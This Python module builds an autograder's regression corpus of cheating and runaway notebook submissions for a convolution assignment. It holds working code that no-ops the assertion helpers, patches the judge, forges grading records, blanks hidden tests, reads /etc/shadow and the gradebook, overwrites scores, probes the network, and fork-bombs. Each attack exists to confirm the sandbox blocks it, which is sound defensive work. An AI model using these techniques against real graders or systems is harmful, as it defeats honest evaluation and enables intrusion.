"""A corpus of cheating and runaway submissions for the channels_pooling assignment.

:func:`build` takes the release notebook (``release/channels_pooling/channels_pooling.ipynb``)
and fills its solution cells with

* the honest right answers (:func:`grader.registry.solution_source`),
* an honest wrong answer (``corr2d`` is the first mistake of channels_pooling's ``MISTAKES``;
  the other functions are right: ``corr2d_multi_in`` and ``corr2d_multi_in_out`` build on the
  wrong ``corr2d`` but are right with a right one, so only ``corr2d`` fails:
  :data:`WRONG_SCORE` of :data:`FULL_SCORE`. Their hidden checks pass with the judge's
  stand-in for ``corr2d``; their visible asserts, which run the student's own ``corr2d`` and
  fail on the notes' example, are in an ungraded cell before each test cell),

and then adds an attack: a cell after the setup cell (``top``), code after the ``def corr2d``
in its solution cell (``after_corr2d``), a replacement ``corr2d`` cell (``corr2d``), a cell at
the very end (``end``), or an edit of the notebook's structure (``mutate``).

Placeholders filled in at build time: ``@@REPO@@`` (this repository), ``@@WORKDIR@@`` (the
grading course the autograder writes its gradebook to), ``@@SUBMITTED@@`` (the folder holding
every student's notebook), ``@@PORT@@`` (a TCP port the test listens on, on 127.0.0.1),
``@@MARKER@@`` (a unique string for leftover-process detection), ``@@TESTCELL@@`` (the index of
the ``corr2d_tests`` cell in the built notebook), ``@@FORGED@@`` (a probe record of the right
answers for seed 0, as a JSON channel line, written as a Python string literal).

Every attack that tries to read or reach something prints ``LEAK ...`` when it succeeds; the
test asserts that no autograded notebook contains ``LEAK``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "channels_pooling"
RELEASE = REPO / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"

#: solution cell grade_id -> the name it defines
SOLUTIONS: dict[str, str] = {
    "corr2d_solution": "corr2d",
    "corr2d_multi_in_solution": "corr2d_multi_in",
    "corr2d_multi_in_out_solution": "corr2d_multi_in_out",
    "corr2d_multi_in_out_1x1_solution": "corr2d_multi_in_out_1x1",
    "pool2d_solution": "pool2d",
}
POINTS: dict[str, float] = {
    "corr2d_tests": 2, "corr2d_multi_in_tests": 2, "corr2d_multi_in_out_tests": 2,
    "corr2d_multi_in_out_1x1_tests": 2, "pool2d_max_tests": 2, "pool2d_avg_tests": 2,
    "pool2d_mode_tests": 1,
}
FULL_SCORE = float(sum(POINTS.values()))  # 13
#: the wrong corr2d fails corr2d only: the right corr2d_multi_in and corr2d_multi_in_out that
#: call it are right with the judge's stand-in for it (Exercise.uses). (It used to cost all
#: three, 7 of 13, through the visible asserts in their test cells; those asserts now run in
#: an ungraded cell before each test cell, so the wrong corr2d no longer zeroes right work.)
WRONG_FAILS = ("corr2d_tests",)
WRONG_SCORE = FULL_SCORE - sum(POINTS[g] for g in WRONG_FAILS)  # 11
#: a corr2d that uses a forbidden call fails corr2d and the functions that run it (2 + 2 + 2):
#: the forbidden verdict comes before the stand-ins
FORBIDDEN_FAILS = ("corr2d_tests", "corr2d_multi_in_tests", "corr2d_multi_in_out_tests")
#: a notebook where corr2d is never defined fails corr2d and corr2d_multi_in (2 + 2): the
#: probe lends a stand-in only for a name the notebook defines, so corr2d_multi_in's run ends
#: in NameError; corr2d_multi_in_out passes (its corr2d_multi_in is defined and stands in)
UNDEFINED_FAILS = ("corr2d_tests", "corr2d_multi_in_tests")


@dataclass
class Attack:
    """One student of the corpus.

    Attributes:
        student: the student id (the notebook's file name).
        base: "right" or "wrong": the honest answers the attack is added to.
        what: one line for reports.
        top / after_corr2d / corr2d / end: where the attack's code goes (see the module doc).
        mutate: edits the built notebook (cells, metadata) after the code is placed.
        resource: a runaway submission: it must end with a clear ``error``.
        error_words: one of these (lower case) must be in that error.
        ran_tests: whether the test cells run before the attack (abuse placed at the end).
        xfail: why the attack is not defended (the test is ``xfail(strict=True)``).
    """

    student: str
    base: str
    what: str
    top: str = ""
    after_corr2d: str = ""
    corr2d: str | None = None
    end: str = ""
    mutate: Callable[[NotebookNode], None] | None = None
    resource: bool = False
    error_words: tuple[str, ...] = ()
    ran_tests: bool = True
    xfail: str | None = None
    tags: set[str] = field(default_factory=set)


def release_notebook() -> NotebookNode:
    return nbformat.read(str(RELEASE), as_version=4)


def _gid(cell: NotebookNode) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def right_solutions() -> dict[str, str]:
    from grader.registry import solution_source

    return {gid: solution_source(name) for gid, name in SOLUTIONS.items()}


def wrong_solutions() -> dict[str, str]:
    from grader.registry import course

    sols = right_solutions()
    sols["corr2d_solution"] = course().mistakes("corr2d")[0].source
    return sols


def forged_record_line(cell_index: int) -> str:
    """A channel line carrying the right corr2d record for seed 0 (computed here, offline)."""
    from grader.course.channels_pooling import reference
    from grader.runtime import probe

    got: list[dict] = []
    probe.set_sink(lambda name, record: got.append(record), seed=0)
    try:
        probe.check_function("corr2d")(reference.corr2d)
    finally:
        probe.set_sink(None, seed=0)
    record = got[0]
    record.pop("source", None)
    return json.dumps({"t": "rec", "cell": cell_index, "name": "corr2d", "record": record})


def lookup_table_corr2d(visible_only: bool = False) -> str:
    """A corr2d that knows the answers for the seed-0 cases (or the visible ones) by heart."""
    from grader.course.channels_pooling import reference
    from grader.runtime.probe import cases_for

    table = []
    for case in cases_for("corr2d", 0):
        X, K = case.args
        table.append((X.tolist(), K.tolist(), reference.corr2d(X, K).tolist()))
    if visible_only:
        table = table[:2]
    return (
        "import torch\n\n"
        f"_TABLE = {table!r}\n\n\n"
        "def corr2d(X, K):\n"
        "    for x, k, y in _TABLE:\n"
        "        x, k = torch.tensor(x), torch.tensor(k)\n"
        "        if X.shape == x.shape and K.shape == k.shape and torch.equal(X.float(), x) \\\n"
        "                and torch.equal(K.float(), k):\n"
        "            return torch.tensor(y)\n"
        "    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)\n"
    )


def build(attack: Attack, ctx: dict[str, str]) -> NotebookNode:
    """The student's notebook for ``attack`` (placeholders filled from ``ctx``)."""
    nb = release_notebook()
    sols = right_solutions() if attack.base == "right" else wrong_solutions()
    for cell in nb.cells:
        gid = _gid(cell)
        if gid in sols:
            cell.source = sols[gid]
        if gid == "corr2d_solution":
            if attack.corr2d is not None:
                cell.source = attack.corr2d
            if attack.after_corr2d:
                cell.source = cell.source.rstrip("\n") + "\n\n\n" + attack.after_corr2d
    if attack.top:
        setup = next(i for i, c in enumerate(nb.cells) if _gid(c) == "setup_context")
        nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(attack.top))
    if attack.end:
        nb.cells.append(nbformat.v4.new_code_cell(attack.end))
    if attack.mutate is not None:
        attack.mutate(nb)
    test_cell = next((i for i, c in enumerate(nb.cells) if _gid(c) == "corr2d_tests"), -1)
    values = dict(ctx)
    values["TESTCELL"] = str(test_cell)
    if any("@@FORGED@@" in c.source for c in nb.cells):
        values["FORGED"] = repr(forged_record_line(test_cell))
    for cell in nb.cells:
        for key, value in values.items():
            cell.source = cell.source.replace(f"@@{key}@@", value)
    return nb


# ---------------------------------------------------------------------------------------------
# attack code

ASSERT_NOOPS = """\
import numpy as np
import torch

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.is_tensor = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
"""

# The same, hidden from a static reading: no assignment to a module attribute in sight.
ASSERT_NOOPS_HIDDEN = """\
import torch

_t = torch
for _name in ("allc" + "lose", "eq" + "ual", "is_" + "tensor"):
    _t.__dict__[_name] = lambda *a, **k: True
"""

IMPORT_REFERENCE = "from grader.course.channels_pooling.reference import corr2d\n"
IMPORT_REFERENCE_MODULE = ("import grader.course.channels_pooling.reference as R\n"
                           "corr2d = R.corr2d\n")
IMPORT_REFERENCE_IMPORTLIB = """\
import importlib
corr2d = importlib.import_module("grader.course.channels_pooling.reference").corr2d
"""
# Find a reference.py of the grader (grader/course/<assignment>/) anywhere the sandbox can see.
IMPORT_REFERENCE_SEARCH = """\
import os
import sys

for _base in list(sys.path) + ["@@REPO@@", "/opt", "/venv", "/work", "/root", "/home"]:
    for _root, _dirs, _files in os.walk(_base):
        if "reference.py" in _files and "gra" + "der" in _root.split(os.sep):
            _path = os.path.join(_root, "reference.py")
            print("LEAK reference at", _path)
            _ns = {}
            exec(compile(open(_path).read(), _path, "exec"), _ns)
            corr2d = _ns["corr2d"]
"""

PATCH_JUDGE = """\
import grader.checks
from grader.checks import Verdict

grader.checks.judge = lambda *a, **k: Verdict(True)
"""

FAKE_MODULES = """\
import sys
import types

fake = types.ModuleType("grader")
fake.__path__ = []


def _noop(*args, **kwargs):
    return None


for _n in ("corr2d", "corr2d_multi_in", "corr2d_multi_in_out", "corr2d_multi_in_out_1x1",
           "pool2d_max", "pool2d_avg", "pool2d_mode"):
    setattr(fake, "check_" + _n, _noop)
sys.modules["grader"] = fake
sys.modules["grader.runtime"] = fake
sys.modules["grader.runtime.probe"] = fake
sys.modules["grader.checks"] = fake
"""

PATCH_SINK = """\
import grader.runtime.probe as P

P.set_sink(lambda name, record: None)
P._sink = lambda name, record: None
P._emit = lambda name, record: None
P.check_function = lambda name: (lambda *a, **k: None)
"""

# Replace the check with one that sends a forged (right, seed-0) record through the probe.
FORGE_VIA_PROBE = """\
import json
import grader.runtime.probe as P

_forged = json.loads(@@FORGED@@)["record"]
P.check_function = lambda name: (lambda fn: P._emit("corr2d", dict(_forged)))
"""

BLANK_LATER_CELLS = """\
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""
BLANK_LATER_CELLS_MANAGER = """\
ip = get_ipython()
ip.input_transformer_manager.cleanup_transforms.append(lambda lines: [])
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
"""
REWRITE_HIDDEN_CELLS = """\
def _rewrite(lines):
    return ["pass\\n" if "check_" in line or "assert" in line else line for line in lines]


get_ipython().input_transformers_cleanup.append(_rewrite)
"""
AST_TRANSFORMER = """\
import ast


class _DropChecks(ast.NodeTransformer):
    def visit_Expr(self, node):
        func = getattr(node.value, "func", None)
        if isinstance(func, ast.Name) and func.id.startswith("check_"):
            return ast.Pass()
        return node

    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(_DropChecks())
"""
PATCH_RUN_CELL = """\
_shell = get_ipython()
type(_shell).run_cell = lambda self, *a, **k: None
_shell.run_cell = lambda *a, **k: None
_shell.set_custom_exc((BaseException,), lambda *a, **k: None)
"""
PATCH_IMPORT = """\
import builtins
import types

_real_import = builtins.__import__
_fake = types.SimpleNamespace(**{"check_" + n: (lambda *a, **k: None) for n in (
    "corr2d", "corr2d_multi_in", "corr2d_multi_in_out", "corr2d_multi_in_out_1x1",
    "pool2d_max", "pool2d_avg", "pool2d_mode")})


def _import(name, *args, **kwargs):
    if name.startswith("grader"):
        return _fake
    return _real_import(name, *args, **kwargs)


builtins.__import__ = _import
"""
SETTRACE = """\
import sys
import threading


def _tracer(frame, event, arg):
    if frame.f_code.co_name.startswith(("check_", "_probe", "_emit")):
        raise KeyboardInterrupt("skip the check")
    return None


sys.settrace(_tracer)
sys.setprofile(lambda frame, event, arg: None)
threading.settrace(_tracer)
"""

EXIT_OS = "import os\nos._exit(0)\n"
EXIT_SYS = "raise SystemExit(0)\n"
EXIT_IN_CHECK = """\
import os


def corr2d(X, K):
    os._exit(0)
"""
KILL_PARENT = """\
import os
import signal

for _pid in (os.getppid(), 1, -1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError as exc:
        print("blocked kill", _pid, type(exc).__name__)
"""

READ_FILES = """\
import os
import sys

# the interpreter's own prefix is mounted read-only (it may live under /root): not a leak
_python = os.path.realpath(sys.base_prefix)

_book = "grade" + "book.db"
_targets = [
    "../../source/channels_pooling/channels_pooling.ipynb", "../source", "../../" + _book,
    "../" + _book, _book, "@@REPO@@/" + _book, "@@REPO@@/source/channels_pooling",
    "@@REPO@@/gra" + "der/course/channels_pooling/reference.py", "@@WORKDIR@@/" + _book,
    "@@WORKDIR@@/source",
    "@@WORKDIR@@/autograded", "@@SUBMITTED@@", "@@SUBMITTED@@/honest_right.ipynb", "/root",
    "/home", "/work", "/etc/passwd", "/etc/shadow",
]
for _p in _targets:
    try:
        if os.path.isdir(_p):
            _extra = [e for e in sorted(os.listdir(_p))
                      if not _python.startswith(os.path.join(os.path.realpath(_p), e) + "/")]
            print("LEAK dir" if _extra else "python prefix only:", _p, _extra[:5])
        else:
            with open(_p, "rb") as _fh:
                print("LEAK read", _p, _fh.read(60))
    except OSError as exc:
        print("blocked", _p, type(exc).__name__)
"""
WALK_ROOT = """\
import os

_seen = 0
for _root, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in ("/pr" + "oc", "/sys", "/dev",
                                                                      "/usr", "/venv")]
    for _f in _files:
        _seen += 1
        _path = os.path.join(_root, _f)
        if _f.endswith((".ipynb", ".db", ".sqlite")) and not _path.startswith(("/usr", "/venv")):
            print("LEAK found", _path)
        if _f == "reference.py" and "gra" + "der" in _root.split(os.sep):
            print("LEAK found", _path)
print("walked", _seen, "files")
"""
WRITE_GRADEBOOK = """\
import sqlite3

_book = "grade" + "book.db"
for _p in ["@@WORKDIR@@/" + _book, "@@REPO@@/" + _book, "../../" + _book, "../" + _book]:
    try:
        _c = sqlite3.connect(_p, timeout=1)
        _c.execute("UPDATE grade SET manual_score = 999, auto_score = 999")
        _c.execute("UPDATE submitted_assignment SET timestamp = NULL")
        _c.commit()
        print("LEAK wrote", _p)
    except Exception as exc:
        print("blocked", _p, type(exc).__name__)
"""
WRITE_FILES = """\
import os

for _p in ["@@REPO@@/PWNED", "@@WORKDIR@@/PWNED", "@@SUBMITTED@@/PWNED", "/PWNED", "/usr/PWNED",
           "/opt/convgrade/PWNED", "/venv/PWNED", "/opt/convgrade/gra" + "der/runtime/probe.py"]:
    try:
        with open(_p, "a") as _fh:
            _fh.write("x")
        print("LEAK wrote", _p)
    except OSError as exc:
        print("blocked", _p, type(exc).__name__)
"""
NETWORK = """\
import socket

for _host, _port in [("127.0.0.1", @@PORT@@), ("8.8.8.8", 53), ("151.101.0.223", 443),
                     ("1.1.1.1", 80)]:
    try:
        _s = socket.create_connection((_host, _port), timeout=2)
        print("LEAK connected", _host, _port)
        _s.close()
    except OSError as exc:
        print("blocked", _host, _port, type(exc).__name__)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("LEAK resolved pypi.org")
except OSError as exc:
    print("blocked dns", type(exc).__name__)
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(b"x", ("8.8.8.8", 53))
    print("LEAK udp sent")
except OSError as exc:
    print("blocked udp", type(exc).__name__)
"""

# Files left outside the submission's own working directory would reach the next student
# served by the same sandbox.
TMP_DROP = """\
import os

_here = os.path.realpath(os.getcwd())
for _d in ["/tmp", "/tmp/work", os.path.dirname(_here), "/dev/shm", "/var/tmp", "/run"]:
    _p = os.path.join(_d, "drop-@@MARKER@@")
    try:
        with open(_p, "w") as _fh:
            _fh.write("from an earlier student")
        print("LEAK wrote shared", _p)
    except OSError as exc:
        print("blocked", _p, type(exc).__name__)
"""
TMP_PEEK = """\
import os

# the warm server's own caches (fontconfig, matplotlib, IPython profile) are not students'
_here = os.path.realpath(os.getcwd())
for _root, _dirs, _files in os.walk("/tmp"):
    for _name in _dirs + _files:
        _p = os.path.realpath(os.path.join(_root, _name))
        if _p == _here or _p.startswith(_here + "/") or _here.startswith(_p + "/"):
            continue
        try:
            _mine = os.lstat(_p).st_uid == os.getuid()
        except OSError:
            continue
        if _mine or "drop-" in _name:
            print("LEAK other", _p)
print("peeked", _here)
"""

LOOP = "while True:\n    pass\n"
FORK_BOMB = """\
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""
ALLOC_TORCH = "import torch\n\nx = torch.empty(5 * 2**30)\nx.fill_(1.0)\n"
ALLOC_BYTES = "b = bytearray(20 * 2**30)\n"
PRINT_1GB = """\
_line = "x" * 2**20
for _ in range(1024):
    print(_line)
"""
WRITE_5GB = """\
_chunk = b"\\0" * 2**20
with open("big.bin", "wb") as _fh:
    for _ in range(5 * 1024):
        _fh.write(_chunk)
"""
BACKGROUND = """\
import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "@@MARKER@@"],
                 start_new_session=True)
subprocess.Popen(["sh", "-c", "(sleep 600; echo @@MARKER@@) &"], start_new_session=True)
print("spawned")
"""

# Hidden test code is sent to the worker to run; IPython keeps every cell's source in In/_ih.
# corr2d copies the running cell's source while the check calls it; a last cell prints it.
def _read_history_corr2d() -> str:
    """The reference corr2d, plus a line that copies the running cell's source from In."""
    from grader.registry import solution_source

    body = solution_source("corr2d").replace(
        "    h, w = K.shape", "    _seen.append(In[-1])\n    h, w = K.shape", 1)
    assert "_seen.append" in body, "the reference corr2d changed: update this attack"
    return "import torch\n\n_seen = []\n\n\n" + body


READ_HISTORY_CORR2D = _read_history_corr2d()
READ_HISTORY_END = """\
print(_seen[-1])
print("\\n".join(In))
"""

SCRATCH_CELL = """\
import torch
import torch.nn.functional as F

X0, K0 = torch.randn(5, 6), torch.randn(2, 3)
print(torch.allclose(corr2d(X0, K0), F.conv2d(X0[None, None], K0[None, None])[0, 0]))
"""
FORBIDDEN_ALIAS = """\
import torch.nn.functional as G


def corr2d(X, K):
    return G.conv2d(X[None, None], K[None, None])[0, 0]
"""
FORBIDDEN_GETATTR = """\
import torch.nn.functional as F


def corr2d(X, K):
    return getattr(F, "con" + "v2d")(X[None, None], K[None, None])[0, 0]
"""
# A module-level alias and a from-import alias: both bound before the check runs, so the
# tripwires never see them; only a static scan of the notebook (not of the function alone)
# follows the name to conv2d.
FORBIDDEN_MODULE_ALIAS = """\
import torch.nn.functional as F

c = F.conv2d


def corr2d(X, K):
    return c(X[None, None], K[None, None])[0, 0]
"""
FORBIDDEN_FROM_IMPORT = """\
from torch.nn.functional import conv2d as slide


def helper(X, K):
    return slide(X[None, None], K[None, None])[0, 0]


def corr2d(X, K):
    return helper(X, K)
"""
# The exercise's name rebound where the static scan does not look, over a conv2d captured
# before the tripwires are set (see tests/test_forbidden.py::BYPASS_BOTH).
FORBIDDEN_REBOUND = """\
import torch.nn.functional as F


def corr2d(X, K):
    return None


_c = F.conv2d


def _setup():
    global corr2d
    corr2d = lambda X, K: _c(X[None, None], K[None, None])[0, 0]  # noqa: E731


_setup()
"""


def _edit_tests(nb: NotebookNode) -> None:
    """Blank every test cell and give it 100 points."""
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell.source = "pass"
            meta["points"] = 100


def _delete_tests(nb: NotebookNode) -> None:
    nb.cells = [c for c in nb.cells
                if not (c.get("metadata", {}).get("nbgrader", {}).get("grade")
                        and c.cell_type == "code")]


def _fake_test_cell(nb: NotebookNode) -> None:
    """An extra graded cell of the student's own, plus a duplicate of corr2d_tests."""
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {"schema_version": 3, "grade": True, "solution": False,
                                  "locked": True, "grade_id": "bonus_tests", "points": 50}
    dup = copy.deepcopy(next(c for c in nb.cells if _gid(c) == "corr2d_tests"))
    dup.source = "pass"
    dup["id"] = "duplicate-corr2d-tests"
    nb.cells.insert(1, dup)
    nb.cells.append(bonus)


# The right answers for the seed-0 cases, written straight to the worker's result channel
# (fd 3) from inside corr2d while the hidden check runs, before the real record. corr2d
# itself knows only the two visible examples.
_FORGE_CHANNEL = lookup_table_corr2d(visible_only=True) + """

import io as _io
import json as _json

_sent = []
_FORGED = @@FORGED@@


def _lookup(X, K):
    return _table_corr2d(X, K)


_table_corr2d = corr2d


def corr2d(X, K):  # noqa: F811
    if not _sent and _json.loads(_FORGED)["cell"] == @@TESTCELL@@:
        _sent.append(1)
        _io.FileIO(3, "wb", closefd=False).write((_FORGED + "\\n").encode())
    return _lookup(X, K)
"""

# Attacks that once got through, and what closed them (kept as regression cases):
# - lookup_table: the seed was fixed at 0; autograde now draws a secret seed per run.
# - forge_via_channel: a forged record on fd 3 was accepted; a test cell may now report each of
#   its checks once, and the judge uses the run's seed, never the record's.
# - forbidden_module_alias / forbidden_from_import: judging used the function's own recorded
#   source; it now uses the whole notebook's code.
# - forbidden_rebound: the scan now follows `global`, walrus and indirect rebinding.
# - read_history: test cells now run with store_history=False (no hidden code in In/_ih).

ATTACKS: list[Attack] = [
    Attack("honest_right", "right", "the reference answers"),
    Attack("honest_wrong", "wrong", "corr2d off by one (MISTAKES['corr2d'][0])"),
    Attack("honest_right_scratch", "right", "right + a scratch cell comparing with F.conv2d",
           end=SCRATCH_CELL),
    # replacing the assertion helpers
    Attack("noop_asserts", "wrong", "torch.allclose/assert_close/np.testing no-ops + wrong",
           top=ASSERT_NOOPS),
    Attack("noop_asserts_right", "right", "the same no-ops + right answers", top=ASSERT_NOOPS),
    Attack("noop_asserts_hidden", "wrong", "no-ops through torch.__dict__",
           top=ASSERT_NOOPS_HIDDEN),
    # reaching the reference solution
    Attack("import_reference", "wrong",
           "from grader.course.channels_pooling.reference import corr2d",
           after_corr2d=IMPORT_REFERENCE),
    Attack("import_reference_module", "wrong",
           "import grader.course.channels_pooling.reference as R",
           after_corr2d=IMPORT_REFERENCE_MODULE),
    Attack("import_reference_importlib", "wrong",
           "importlib.import_module('grader.course.channels_pooling.reference')",
           after_corr2d=IMPORT_REFERENCE_IMPORTLIB),
    Attack("search_reference_file", "wrong", "walk sys.path and the repo for reference.py",
           after_corr2d=IMPORT_REFERENCE_SEARCH),
    # replacing the checks
    Attack("patch_judge", "wrong", "grader.checks.judge = lambda: Verdict(True)", top=PATCH_JUDGE),
    Attack("visible_only", "wrong", "corr2d knows only the visible examples by heart",
           corr2d=lookup_table_corr2d(visible_only=True)),
    Attack("patch_judge_visible", "wrong", "judge replaced + a corr2d that passes the visible "
           "asserts only", top=PATCH_JUDGE, corr2d=lookup_table_corr2d(visible_only=True)),
    Attack("fake_sys_modules", "wrong", "sys.modules['grader'/'grader.runtime.probe'] = fake",
           top=FAKE_MODULES),
    Attack("patch_sink", "wrong",
           "grader.runtime.probe.set_sink/_sink/_emit/check_function replaced",
           top=PATCH_SINK),
    Attack("forge_via_probe", "wrong", "check_corr2d replaced by one emitting a forged record",
           top=FORGE_VIA_PROBE),
    Attack("forge_via_channel", "wrong", "forged record written to fd 3 during the check",
           corr2d=_FORGE_CHANNEL),
    Attack("lookup_table", "wrong", "corr2d knows the seed-0 hidden answers by heart",
           corr2d=lookup_table_corr2d()),
    # making the hidden tests not run
    Attack("blank_later_cells", "wrong", "input transformer that blanks every later cell",
           top=BLANK_LATER_CELLS),
    Attack("blank_later_cells_manager", "wrong", "the same through the transformer manager",
           top=BLANK_LATER_CELLS_MANAGER),
    Attack("rewrite_hidden_cells", "wrong", "input transformer that drops checks and asserts",
           top=REWRITE_HIDDEN_CELLS),
    Attack("ast_transformer", "wrong", "AST transformer that drops checks and asserts",
           top=AST_TRANSFORMER),
    Attack("patch_run_cell", "wrong", "shell.run_cell replaced, custom exception handler",
           top=PATCH_RUN_CELL),
    Attack("patch_import", "wrong", "builtins.__import__ returns a fake grader", top=PATCH_IMPORT),
    Attack("settrace", "wrong", "sys.settrace/setprofile that aborts the checks", top=SETTRACE),
    # editing the notebook's structure
    Attack("edit_tests", "wrong", "test cells blanked and given 100 points", mutate=_edit_tests),
    Attack("delete_tests", "wrong", "test cells deleted", mutate=_delete_tests),
    Attack("fake_test_cells", "wrong", "a duplicate corr2d_tests and a 50-point bonus cell",
           mutate=_fake_test_cell),
    # the from-scratch rule
    Attack("forbidden_alias", "right", "corr2d = G.conv2d (import torch.nn.functional as G)",
           corr2d=FORBIDDEN_ALIAS),
    Attack("forbidden_getattr", "right", "corr2d via getattr(F, 'con' + 'v2d')",
           corr2d=FORBIDDEN_GETATTR),
    Attack("forbidden_module_alias", "right", "c = F.conv2d at module level, used by corr2d",
           corr2d=FORBIDDEN_MODULE_ALIAS),
    Attack("forbidden_from_import", "right", "from ... import conv2d as slide, via a helper",
           corr2d=FORBIDDEN_FROM_IMPORT),
    Attack("forbidden_rebound", "right", "corr2d rebound to captured conv2d via `global`",
           corr2d=FORBIDDEN_REBOUND),
    # leaving the sandbox
    Attack("read_files", "right", "open source/, gradebook.db, other students, /root",
           top=READ_FILES),
    Attack("walk_root", "right", "walk / for notebooks and databases", top=WALK_ROOT),
    Attack("write_gradebook", "right", "sqlite3 UPDATE of every gradebook in reach",
           top=WRITE_GRADEBOOK),
    Attack("write_files", "right", "write into the repo, the course, the stage, /usr",
           top=WRITE_FILES),
    Attack("network", "right", "TCP to 127.0.0.1 and outside, DNS, UDP", top=NETWORK),
    Attack("read_history", "right", "print the hidden test cells' source from In/_ih",
           corr2d=READ_HISTORY_CORR2D, end=READ_HISTORY_END),
    Attack("aa_tmp_drop", "right", "write outside the own working directory", top=TMP_DROP),
    Attack("zz_tmp_peek", "right", "look for what earlier students left in /tmp", top=TMP_PEEK),
    # ending the run early
    Attack("exit_os_top", "right", "os._exit(0) before the tests", top=EXIT_OS, ran_tests=False,
           resource=True, error_words=("exit", "stopped", "crash", "ended", "died")),
    Attack("exit_sys_top", "right", "raise SystemExit before the tests", top=EXIT_SYS,
           ran_tests=False, resource=True, error_words=("exit",)),
    Attack("exit_in_check", "right", "os._exit(0) inside corr2d while the check runs",
           corr2d=EXIT_IN_CHECK, ran_tests=False, resource=True,
           error_words=("exit", "stopped", "crash", "ended", "died")),
    Attack("kill_parent", "right", "SIGKILL to the parent, pid 1 and -1", end=KILL_PARENT),
    # runaway submissions (after the tests: what ran before is kept)
    Attack("infinite_loop", "right", "while True: pass", end=LOOP, resource=True,
           error_words=("time", "longer", "timeout", "seconds")),
    Attack("fork_bomb", "right", "os.fork() forever", end=FORK_BOMB, resource=True,
           error_words=("time", "longer", "timeout", "process", "seconds")),
    Attack("alloc_torch_20gb", "right", "torch.empty(5 * 2**30)", end=ALLOC_TORCH, resource=True,
           error_words=("memory",)),
    Attack("alloc_bytearray_20gb", "right", "bytearray(20 GiB)", end=ALLOC_BYTES, resource=True,
           error_words=("memory",)),
    Attack("print_1gb", "right", "print 1 GB", end=PRINT_1GB, resource=True,
           error_words=("output", "printed")),
    Attack("write_5gb", "right", "write a 5 GB file", end=WRITE_5GB),
    Attack("background_process", "right", "a process that outlives the cell", end=BACKGROUND),
    # runaway before the tests: the tests never run
    Attack("infinite_loop_top", "right", "while True: pass before the tests", top=LOOP,
           ran_tests=False, resource=True, error_words=("time", "longer", "timeout", "seconds")),
]

BY_STUDENT: dict[str, Attack] = {a.student: a for a in ATTACKS}
assert len(BY_STUDENT) == len(ATTACKS)
